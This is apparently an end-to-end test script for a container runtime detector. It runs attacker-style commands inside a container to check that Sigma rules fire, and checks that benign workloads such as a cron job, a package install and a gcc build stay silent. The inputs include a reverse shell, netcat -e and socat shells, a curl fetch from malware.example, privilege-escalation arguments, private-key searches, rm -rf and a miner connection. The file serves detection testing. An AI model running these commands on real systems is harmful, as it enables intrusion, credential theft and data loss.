#!/bin/sh
# SPDX-License-Identifier: GPL-2.0
# t-70-exec-rules.sh - what a process in a container does after the foothold, judged by the Sigma
# rules whorl ships (rules/) and SigmaHQ's Linux process_creation rules, on every exec: a reverse
# shell (the shell's stdin and stdout a TCP socket, IPv4 and IPv6), netcat -e, an ELF in base64 on
# a command line, a shell started by a program that is not one, a proxy in the environment. Each is
# a finding with the rule's category and the process's lineage; a benign workload is silent.
. /e2e/lib.sh
RULES=$E2E_DATA/rules
EXEC_LOG=$E2E_TMP/exec.jsonl
# whorl's rules are loaded as an installed relay loads them, by default, from the shipped rules
# directory (here its copy, named by WHORL_RULES_DIR); one is switched off
export WHORL_RULES_DIR=$RULES/whorl
set -- --disable-rule padded_environment
[ -d "$RULES/sigmahq" ] && set -- "$@" --rules "$RULES/sigmahq"
setup "$@" --exec-log "$EXEC_LOG"
diag "rules: $(grep -i 'rules' "$E2E_TMP/relay.err" | head -n 4 | tr '\n' ' ')"
if grep -q "shipped rules: $RULES/whorl" "$E2E_TMP/relay.err" &&
	grep -q "rules switched off: 1" "$E2E_TMP/relay.err"; then
	ok "the shipped rules load without --rules; --disable-rule switched one off"
else
	not_ok "the shipped rules load without --rules; --disable-rule switched one off" \
		"$(head -n 8 "$E2E_TMP/relay.err" | tr '\n' ' ')"
fi

REVERSE="Reverse Shell"
NETCAT="Execution: Netcat Remote Code Execution in Container"
B64ELF="Defense Evasion: Base64 ELF File Command Line Execution"
CHILD="Unexpected Child Shell"
RCE="Execution: Possible Remote Command Execution Detected"
URL="Malicious URL Observed"
PADDED="Defense Evasion: Environment Too Large To Inspect"
PROXY="Execution: Program Run with Disallowed HTTP Proxy Env"
ELF_B64=f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA

# exec_event KEY VALUE...: an exec event in the relay's log with every KEY equal to its VALUE
exec_event() {
	awk -f "$E2E_DIR/json.awk" "$EXEC_LOG" 2>/dev/null | awk -F '\t' -v conds="$*" '
		BEGIN { n = split(conds, c, " ") }
		{ v[$1, $2] = $3; seen[$1] = 1 }
		END {
			for (r in seen) {
				good = 1
				for (i = 1; i + 1 <= n; i += 2) {
					w = c[i + 1]; gsub(/\037/, " ", w)
					if (!((r, c[i]) in v) || v[r, c[i]] != w) { good = 0; break }
				}
				if (good) { print r; exit 0 }
			}
			exit 1
		}' >/dev/null
}

# check_event NAME KEY VALUE...: the exec log has that event (waited for as findings are)
check_event() {
	local name=$1
	shift
	if wait_progress exec_event "$@"; then
		ok "$name"
	else
		not_ok "$name" "no exec event with $*; log: $(tail -n 3 "$EXEC_LOG" 2>/dev/null | cut -c1-600 | tr '\n' ' ')"
	fi
}

# listener_done PID: the listener has served its caller (or, if the call never came, is stopped:
# a listener left waiting must not hold the test); never a bare wait, the relays are jobs too
listener_done() {
	wait_progress sh -c "! kill -0 $1 2>/dev/null"
	kill "$1" 2>/dev/null
	wait "$1" 2>/dev/null
}

# attack RUN CATEGORY IMAGE CMD...: CMD run in the container gives a finding of CATEGORY for
# the program IMAGE
attack() {
	local run=$1 category=$2 image=$3 from
	shift 3
	from=$(mark)
	ctr "$C_ID" "$@" >/dev/null 2>&1
	expect_finding "$run: $category" "$from" \
		"$(printf 'category\t%s\nprocesses.0.binary.path\t%s\n' "$category" "$image"
		container_fields)" \
		"category=$(q "$category")" "containers.0.id=$C_ID" "processes.0.binary.path=$image"
}

scenarios() {
	start "$3" "$1" "$2" || return
	ctr_copy_in "$C_ID" "$E2E_DATA/revshell" /tmp/.rs

	# a reverse shell over IPv4: the listener inside the container, the shell calling it (each
	# listener's output a new file, made before it starts: a background job's redirection is
	# made in the job, and an older file saying "listening" would let the caller start early)
	out=$E2E_TMP/serve-$C_ID.out
	: >"$out"
	ctr "$C_ID" /tmp/.rs serve 127.0.0.1 4444 '/usr/bin/id
' >>"$out" 2>&1 &
	serve=$!
	wait_progress grep -q listening "$out"
	# (each attack from a shell in the container, so that its finding's lineage has one)
	from=$(mark)
	ctr "$C_ID" /bin/sh -c '/tmp/.rs connect 127.0.0.1 4444; true'
	expect_finding "$3: reverse_shell_ipv4" "$from" \
		"$(printf 'category\t%s\nprocesses.0.binary.path\t/usr/bin/dash\n' "$REVERSE"
		printf 'processes.1.binary.path\t/usr/bin/dash\nprocesses.1.args.1\t-c\n'
		container_fields)" \
		"category=$(q "$REVERSE")" "containers.0.id=$C_ID"
	check_event "$3: the shell's stdin is the socket, its peer 127.0.0.1:4444" \
		Image /usr/bin/dash whorl.StdinType socket whorl.StdinRemoteAddress 127.0.0.1 \
		whorl.StdinRemotePort 4444 whorl.StdoutType socket whorl.ContainerId "$C_ID"
	check_event "$3: what the attacker ran through it has the shell for parent" \
		Image /usr/bin/id ParentImage /usr/bin/dash whorl.StdoutType socket \
		whorl.ContainerId "$C_ID"
	expect_finding "$3: remote_command_execution" "$from" \
		"$(printf 'category\t%s\nprocesses.0.binary.path\t/usr/bin/id\n' "$RCE"
		printf 'processes.1.binary.path\t/usr/bin/dash\n'
		container_fields)" \
		"category=$(q "$RCE")" "containers.0.id=$C_ID"
	listener_done "$serve"

	# the same over IPv6, where the kernel has it (the debug kernels are built without)
	if [ -e /proc/net/if_inet6 ]; then
		out=$E2E_TMP/serve6-$C_ID.out
		: >"$out"
		ctr "$C_ID" /tmp/.rs serve ::1 4445 'exit
' >>"$out" 2>&1 &
		serve=$!
		wait_progress grep -q listening "$out"
		from=$(mark)
		ctr "$C_ID" /tmp/.rs connect ::1 4445
		expect_finding "$3: reverse_shell_ipv6" "$from" \
			"$(printf 'category\t%s\n' "$REVERSE"; container_fields)" \
			"category=$(q "$REVERSE")" "containers.0.id=$C_ID"
		check_event "$3: an IPv6 peer" Image /usr/bin/dash whorl.StdinRemoteAddress ::1 \
			whorl.StdinRemotePort 4445 whorl.ContainerId "$C_ID"
		listener_done "$serve"
	else
		echo "ok $3: reverse_shell_ipv6 # SKIP this kernel has no IPv6 (CONFIG_IPV6 off)"
	fi

	# netcat -e: any program named nc with the option (here a harmless one, copied in)
	ctr_copy_in "$C_ID" "$E2E_DATA/hello" /tmp/nc
	from=$(mark)
	ctr "$C_ID" /bin/sh -c '/tmp/nc -e /bin/sh 10.0.0.9 4444 >/dev/null; true'
	expect_finding "$3: netcat_exec" "$from" \
		"$(printf 'category\t%s\nprocesses.0.binary.path\t/tmp/nc\n' "$NETCAT"
		args_fields /tmp/nc -e /bin/sh 10.0.0.9 4444
		printf 'processes.1.binary.path\t/usr/bin/dash\n'
		container_fields)" \
		"category=$(q "$NETCAT")" "containers.0.id=$C_ID"

	# curl of a URL that intel lists (a url: line of e2e.intel), from a shell: the finding
	# names the URL and the shell that ran curl (the guest has no DNS: the fetch itself fails)
	from=$(mark)
	ctr "$C_ID" /bin/sh -c '/usr/bin/curl -fsS --max-time 5 http://malware.example/stage2.sh; true' \
		>/dev/null 2>&1
	expect_finding "$3: malicious_url" "$from" \
		"$(printf 'category\t%s\nprocesses.0.binary.path\t/usr/bin/curl\n' "$URL"
		printf 'processes.1.binary.path\t/usr/bin/dash\n'
		printf 'event.whorl.IntelUrl\thttp://malware.example/stage2.sh\n'
		printf 'event.whorl.IntelUrlLabel\te2e-dropper-url\n'
		container_fields)" \
		"category=$(q "$URL")" "containers.0.id=$C_ID" "processes.0.binary.path=/usr/bin/curl"

	# an ELF header in base64 on a command line
	from=$(mark)
	ctr "$C_ID" /bin/sh -c "/bin/sh -c 'echo $ELF_B64 >/dev/null'; true"
	# (both shells' command lines carry it: the inner one's finding names the outer as parent)
	expect_finding "$3: base64_elf_on_the_command_line" "$from" \
		"$(printf 'category\t%s\nprocesses.0.binary.path\t/usr/bin/dash\n' "$B64ELF"
		printf 'processes.0.args.2\techo %s >/dev/null\n' "$ELF_B64"
		printf 'processes.1.binary.path\t/usr/bin/dash\n'
		container_fields)" \
		"category=$(q "$B64ELF")" "containers.0.id=$C_ID" "processes.1.binary.path=/usr/bin/dash"

	# a shell started by a program that is not one (an application shelling out), with lineage
	from=$(mark)
	ctr "$C_ID" /tmp/.rs run '/usr/bin/id' >/dev/null
	expect_finding "$3: unexpected_child_shell" "$from" \
		"$(printf 'category\t%s\nprocesses.0.binary.path\t/usr/bin/dash\n' "$CHILD"
		printf 'processes.1.binary.path\t/tmp/.rs\nprocesses.1.args.1\trun\n'
		container_fields)" \
		"category=$(q "$CHILD")" "containers.0.id=$C_ID"
	check_event "$3: the shell's working directory and user" Image /usr/bin/dash \
		ParentImage /tmp/.rs CurrentDirectory / User root whorl.ContainerId "$C_ID"

	# a proxy in the environment, and the working directory the program started in
	from=$(mark)
	ctr "$C_ID" /bin/sh -c 'cd /tmp && HTTPS_PROXY=http://10.0.0.9:3128 exec /usr/bin/id' >/dev/null
	expect_finding "$3: proxy_in_the_environment" "$from" \
		"$(printf 'category\t%s\nprocesses.0.binary.path\t/usr/bin/id\n' "$PROXY"
		container_fields)" \
		"category=$(q "$PROXY")" "containers.0.id=$C_ID"
	check_event "$3: the environment and working directory in the exec event" Image /usr/bin/id \
		CurrentDirectory /tmp whorl.Env.HTTPS_PROXY http://10.0.0.9:3128 whorl.ContainerId "$C_ID"

	# an environment padded past what the module reads cannot hide a variable in silence; the
	# rule that reports it is switched off here (--disable-rule): judged, and silent
	pad=$(head -c 70000 /dev/zero | tr '\0' x)
	from=$(mark)
	ctr "$C_ID" /usr/bin/env PAD="$pad" LD_PRELOAD=/tmp/hidden.so /usr/bin/true
	check_event "$3: a padded environment is marked incomplete" Image /usr/bin/true \
		whorl.EnvIncomplete true whorl.ContainerId "$C_ID"
	barrier "$C_ID"
	expect_silence "$3: a_disabled_rule_is_silent" "$from" "category=$(q "$PADDED")"

	# the other detectors whorl ships rules for, each as an attacker types it; a tool the image
	# lacks is a harmless program copied in under the tool's name, as for netcat. These rules read
	# the command line and environment only, which no runtime changes: in runc's run alone. Not
	# on the debug kernels either: these execs take no path in the module that the scenarios
	# above have not taken there, and the rules are the relay's, the same on every kernel.
	if [ "$1" = runc ] && [ "${WHORL_DEBUG:-0}" = 1 ]; then
		echo "ok $3: the argv-only detectors # SKIP on the debug kernels: the installed kernels run them"
	elif [ "$1" = runc ]; then
		for tool in socat pkexec sudoedit gpg xmrig; do
			ctr_copy_in "$C_ID" "$E2E_DATA/hello" "/tmp/$tool"
		done
		attack "$3" "Execution: Socat Reverse Shell Detected" /tmp/socat \
			/tmp/socat exec:/bin/sh,pty,stderr,setsid tcp:10.0.0.9:4444
		attack "$3" "Privilege Escalation: Polkit Local Privilege Escalation Vulnerability" \
			/tmp/pkexec /usr/bin/env GCONV_PATH=. /tmp/pkexec
		attack "$3" "Privilege Escalation: Sudo Potential Privilege Escalation" /tmp/sudoedit \
			/tmp/sudoedit -s '\' AAAAAAAA
		attack "$3" "Credential Access: Search Private Keys or Passwords" /usr/bin/find \
			/usr/bin/find /root /etc -name id_rsa
		attack "$3" "Credential Access: Find Google Cloud Credentials" /usr/bin/ls \
			/usr/bin/ls -la /root/.config/gcloud
		attack "$3" "Discovery: GPG Key Reconnaissance" /tmp/gpg /tmp/gpg --list-secret-keys
		attack "$3" "Impact: Remove Bulk Data From Disk" /usr/bin/rm /usr/bin/rm -rf /data
		attack "$3" "Execution: Cryptocurrency Mining Pool Connection" /tmp/xmrig \
			/tmp/xmrig -o stratum+tcp://pool.example:3333 -u wallet
		attack "$3" "Defense Evasion: Base64 Encoded Shell Script Executed" /usr/bin/dash \
			/bin/sh -c 'echo IyEvYmluL3NoCmlkCg== | base64 -d | sh'
	fi

	# silence: a benign workload (a shell script that lists, reads, loops and sleeps; a cron job; a
	# package installed with dpkg, its maintainer script run; a web server serving curl and wget)
	# with every rule loaded gives no rule's finding
	ctr_copy_in "$C_ID" "$E2E_DATA/e2e-app.deb" /root/e2e-app.deb
	barrier "$C_ID"
	from=$(mark)
	# ... a cron daemon's job (busybox crond, every minute: a timestamp, a listing, a checksum),
	# started first so that its minute passes during the rest; in the first run only, and not on
	# the debug kernels, whose guests are the longest of a run (its wait is up to a minute)
	cron=0
	if [ "$3" = "$FIRST_RUN" ] && [ "${WHORL_DEBUG:-0}" != 1 ]; then
		cron=1
		ctr "$C_ID" /bin/sh -c 'mkdir -p /etc/crontabs /var/log &&
			printf "%s\n" "* * * * * cat /proc/uptime >>/var/log/e2e-cron.log; ls -la /var/log >/dev/null; sha256sum /etc/passwd >/var/log/e2e-cron.sum" >/etc/crontabs/root &&
			/usr/bin/busybox crond -b -c /etc/crontabs -L /dev/null'
	fi
	ctr "$C_ID" /bin/sh -c 'for i in 1 2 3; do ls / >/dev/null; cat /etc/os-release >/dev/null
		id >/dev/null; uname -a >/dev/null; head -n 1 /etc/passwd >/dev/null; sleep 0.1; done
		cd /tmp && mkdir -p work && cp /etc/passwd work/ && sha256sum work/passwd >/dev/null
		grep -c "^root:" /etc/passwd >/dev/null; grep -rl PRETTY_NAME /etc >/dev/null
		find /etc -name "*.conf" >/dev/null; find work -type f -newer /etc/os-release >/dev/null
		rm -rf work' >/dev/null
	# ... a package installed (dpkg runs its postinst through /bin/sh)
	ctr "$C_ID" /usr/bin/dpkg -i /root/e2e-app.deb >/dev/null
	# ... and a web server serving requests, fetched with curl and wget
	ctr "$C_ID" /bin/sh -c 'mkdir -p /srv/www && echo hello >/srv/www/index.html
		/usr/bin/busybox httpd -f -p 127.0.0.1:8080 -h /srv/www </dev/null >/dev/null 2>&1 &
		httpd=$!
		for i in 1 2 3 4 5 6 7 8 9 10; do
			/usr/bin/curl -fsS http://127.0.0.1:8080/ >/dev/null 2>&1 && break
			sleep 0.3
		done
		for i in 1 2 3; do
			/usr/bin/curl -fsS http://127.0.0.1:8080/index.html >/dev/null
			/usr/bin/busybox wget -q -O /dev/null http://127.0.0.1:8080/
		done
		kill $httpd' >/dev/null
	if [ "$cron" = 1 ]; then
		# a hang detector, not a schedule: the job runs at the next minute of the guest's clock
		w=0
		while [ "$w" -lt 300 ] && ! ctr "$C_ID" /bin/sh -c '[ -s /var/log/e2e-cron.log ]'; do
			sleep 2
			w=$((w + 2))
		done
		check "$3: the cron job ran (waited ${w}s)" ctr "$C_ID" /bin/sh -c '[ -s /var/log/e2e-cron.sum ]'
	fi
	barrier "$C_ID"
	# (the barrier's own shell copies its sentinel into /tmp: SigmaHQ's rule for scripts in
	# suspicious directories rightly names it; it is the test's plumbing, not the workload)
	if [ "$(ctr "$C_ID" /usr/bin/cat /usr/share/e2e-app/state 2>&1)" = configured ]; then
		ok "$3: the benign workload's package is installed and configured"
	else
		not_ok "$3: the benign workload's package is installed and configured" \
			"$(ctr "$C_ID" /usr/bin/dpkg -l 2>&1 | tail -n 3 | tr '\n' ' ')"
	fi
	bdir=/tmp/.barrier-$BARRIERS
	expect_silence "$3: benign_workload_is_silent" "$from" "containers.0.id=$C_ID" \
		"$NOT_SENTINEL" \
		"processes.0.args.2!=$(q "mkdir -p $bdir && cp /usr/local/bin/e2e-sentinel $bdir/")"
	container_remove "$C_ID"
}

FIRST_RUN=$(echo "${RUNS%% *}" | tr : /)
for_each_run scenarios

# A build with gcc, silent: a build image (Debian 12 with gcc, libc6-dev and make installed by its
# own apt: the runtimes disk, tests/runtimes/root.sh, which the distro kernels' guests attach)
# mounted as the image's one layer; the sources copied in, then make runs the compiler, assembler,
# linker, ar, strip and install, as a CI job or an image's build stage does. Every rule is loaded.
CC1=/usr/lib/gcc/x86_64-linux-gnu/12/cc1
build_workload() {
	local run=${RUNS%% *} toolchain=$E2E_TMP/toolchain lower=$LOWERDIR started f bdir
	if [ ! -b /dev/vda ]; then
		diag "SKIP a gcc build in a container: this guest has no toolchain disk (the distro kernels' guests attach it)"
		return 0
	fi
	mkdir -p "$toolchain"
	if ! mount -t ext4 /dev/vda "$toolchain" 2>"$E2E_TMP/toolchain.err" ||
		[ ! -x "$toolchain/usr/bin/gcc" ] || [ ! -x "$toolchain$CC1" ]; then
		not_ok "a build image with gcc" "$(cat "$E2E_TMP/toolchain.err"; ls "$toolchain/usr/bin" 2>&1 | grep -c .) files in its /usr/bin"
		umount "$toolchain" 2>/dev/null
		return 0
	fi
	LOWERDIR=$toolchain
	start "gcc build" "${run%%:*}" "${run##*:}"
	started=$?
	LOWERDIR=$lower
	if [ "$started" != 0 ]; then
		umount "$toolchain"
		return 0
	fi
	# the sources, and the barrier's sentinel program (the test's plumbing, not the workload)
	ctr "$C_ID" /bin/mkdir -p /src/build-app /usr/local/bin
	for f in Makefile main.c greet.c greet.h; do
		ctr_copy_in "$C_ID" "$E2E_DATA/build-app/$f" "/src/build-app/$f" 0644
	done
	ctr_copy_in "$C_ID" "$E2E_DATA/hello" /usr/local/bin/e2e-sentinel
	barrier "$C_ID"
	from=$(mark)
	ctr "$C_ID" /usr/bin/make -C /src/build-app install DESTDIR=/out >"$E2E_TMP/build.log" 2>&1
	check "a gcc build in a container installs its program ($(tail -n 2 "$E2E_TMP/build.log" | tr '\n' ' '))" \
		ctr "$C_ID" /usr/bin/test -x /out/usr/local/bin/greet
	ctr "$C_ID" /usr/bin/make -C /src/build-app clean >>"$E2E_TMP/build.log" 2>&1
	check_event "the build's compiler ran in the container, child of gcc" Image "$CC1" \
		ParentImage /usr/bin/x86_64-linux-gnu-gcc-12 whorl.ContainerId "$C_ID"
	check_event "the build's linker ran in the container" Image /usr/bin/x86_64-linux-gnu-ld.bfd \
		whorl.ContainerId "$C_ID"
	check_event "make's recipe shell ran in the container" Image /usr/bin/dash ParentImage /usr/bin/make \
		whorl.ContainerId "$C_ID"
	barrier "$C_ID"
	bdir=/tmp/.barrier-$BARRIERS
	expect_silence "gcc_build_is_silent" "$from" "containers.0.id=$C_ID" "$NOT_SENTINEL" \
		"processes.0.args.2!=$(q "mkdir -p $bdir && cp /usr/local/bin/e2e-sentinel $bdir/")"
	container_remove "$C_ID"
	umount "$toolchain"
}
build_workload

# A relay killed (SIGKILL) cannot turn exec events off: the setting stays on, but with no one
# subscribed the module captures and sends nothing, and the exec path pays nothing for it.
run=${RUNS%% *}
if start "after the scenarios" "${run%%:*}" "${run##*:}"; then
	c0=$(status_get counters.execCaptured)
	for i in 1 2 3; do ctr "$C_ID" /usr/bin/true; done
	c1=$(status_get counters.execCaptured)
	check "with a relay subscribed, each exec's context is captured (execCaptured $c0 then $c1)" \
		sh -c '[ -n "$1" ] && [ -n "$2" ] && [ "$2" -ge $(($1 + 3)) ]' - "$c0" "$c1"
	relay_stop KILL
	check "a killed relay leaves exec events on" sh -c '[ "$1" = true ]' - \
		"$(status_get config.execEvents)"
	for i in 1 2 3 4 5; do ctr "$C_ID" /usr/bin/true; done
	c2=$(status_get counters.execCaptured)
	check "with no subscriber nothing is captured (execCaptured $c1 then $c2)" \
		sh -c '[ -n "$1" ] && [ "$1" = "$2" ]' - "$c1" "$c2"
	container_remove "$C_ID"
fi
"$WHORL" config --exec-events off >/dev/null
finish
